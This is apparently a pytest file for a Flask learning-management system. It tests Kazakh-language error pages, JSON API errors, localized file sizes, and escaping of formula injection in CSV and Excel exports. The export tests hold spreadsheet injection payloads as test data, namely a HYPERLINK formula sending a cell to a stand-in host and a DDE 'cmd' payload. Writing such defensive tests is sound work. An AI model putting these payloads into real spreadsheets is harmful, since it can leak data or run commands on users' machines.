"""Every status a page can end in is told in the reader's language (Moodle shows its own error
strings; Werkzeug's default pages are English): a file over the upload limit, a malformed form,
a wrong method, a crash. The API keeps answering JSON."""
import pytest


@pytest.fixture
def kk_reader(client, auth, make):
    make.user(email="err-reader@test.kz")  # Kazakh, the default
    auth.login("err-reader@test.kz")
    return client


def test_too_large_wrong_method_and_bad_request_are_in_kazakh(kk_reader, app):
    too_big = kk_reader.post("/profile/notices", data={"x": "y" * (app.config["MAX_CONTENT_LENGTH"] + 1)})
    assert too_big.status_code == 413 and "Файл тым үлкен" in too_big.text and "Request Entity" not in too_big.text
    assert "20 МБ" in too_big.text
    wrong = kk_reader.get("/language")
    assert wrong.status_code == 405 and "Method Not Allowed" not in wrong.text and "<h1>" in wrong.text
    bad = kk_reader.post("/language", data={"language": "xx"})
    assert bad.status_code == 400 and "Bad Request" not in bad.text and 'lang="kk"' in bad.text


def test_a_crash_is_a_page_in_the_readers_language_and_the_api_stays_json(kk_reader, app, monkeypatch):
    def boom(*_a, **_kw):
        raise RuntimeError("a bug")

    monkeypatch.setitem(app.view_functions, "core.profile", boom)
    monkeypatch.setitem(app.config, "PROPAGATE_EXCEPTIONS", False)
    crashed = kk_reader.get("/profile")
    assert crashed.status_code == 500 and "Internal Server Error" not in crashed.text
    assert "Бұған дейін сақтағаныңыз жоғалмайды" in crashed.text
    api = kk_reader.get("/api/v1/nothing-here")
    assert api.status_code == 404 and api.get_json()["error"] == "not_found"
    wrong = kk_reader.delete("/api/v1/openapi.json")
    assert wrong.status_code == 405 and wrong.get_json()["error"]


def test_file_sizes_are_written_in_the_readers_language(app):
    from flask_babel import force_locale

    from lms.core.i18n import file_size

    with app.test_request_context():
        with force_locale("kk"):
            assert file_size(350_000) == "342 КБ" and file_size(2_621_440) == "2,5 МБ"
        with force_locale("ru"):
            assert file_size(2_621_440) == "2,5 МБ"
        with force_locale("en"):
            assert file_size(2_621_440) == "2.5 MB" and file_size(10) == "1 KB"


def test_a_spreadsheet_cell_typed_as_a_formula_stays_text():
    """A name or title beginning with "=" (from an import or a form) must not run in the reader's
    Excel as a formula (a HYPERLINK that sends data away)."""
    import io

    from openpyxl import load_workbook

    from lms.core.services.exports import xlsx_bytes

    sheet = load_workbook(io.BytesIO(xlsx_bytes(["Name"], [['=HYPERLINK("http://x.example/?"&A1)'], ["Әсем"]]))).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value.startswith("=HYPERLINK")
    assert sheet["A3"].value == "Әсем"


def test_a_csv_cell_that_would_run_as_a_formula_is_written_as_text():
    """The same in a CSV download (OWASP's CSV injection): a leading apostrophe, so Excel shows
    the text; names, numbers and negative numbers are untouched."""
    import csv
    import io

    from lms.core.services.exports import csv_bytes

    rows = [['=HYPERLINK("http://x.example/?"&A1)'], ["@SUM(A1)"], ["+cmd|' /C calc'!A0"], ["Әсем"], ["-5"],
            [-2.5], [None], ["- бос"], ["-inf"]]
    text = csv_bytes(["Name"], rows).decode("utf-8-sig")
    cells = [r[0] for r in csv.reader(io.StringIO(text))][1:]
    assert cells == ['\'=HYPERLINK("http://x.example/?"&A1)', "'@SUM(A1)", "'+cmd|' /C calc'!A0", "Әсем", "-5",
                     "-2.5", "", "'- бос", "'-inf"]
